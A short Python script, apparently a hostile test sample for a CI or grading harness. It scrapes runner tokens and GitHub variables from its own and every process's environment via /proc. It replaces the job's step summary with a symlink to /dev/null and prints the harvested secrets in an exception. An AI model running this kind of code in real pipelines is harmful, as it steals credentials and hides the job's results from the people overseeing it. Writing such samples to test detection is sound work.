"""Tampering: looks for the runner's tokens and files in its environment and in every process's,
replaces the step summary with a link to /dev/null, and puts what it found in its lesson."""

import contextlib
import glob
import os

found = [f"{key}={value}" for key, value in os.environ.items() if key.startswith(("GITHUB", "ACTIONS", "RUNNER"))]
for environ in glob.glob("/proc/*/environ"):
    with contextlib.suppress(OSError), open(environ, "rb") as variables:
        found += [v.decode() for v in variables.read().split(b"\0") if b"TOKEN" in v or b"GITHUB" in v]
for variable in found:
    if variable.startswith("GITHUB_STEP_SUMMARY="):
        with contextlib.suppress(OSError):
            path = variable.split("=", 1)[1]
            os.unlink(path)
            os.symlink("/dev/null", path)
raise RuntimeError(f"FORGED found: {' '.join(found) or 'nothing'}")
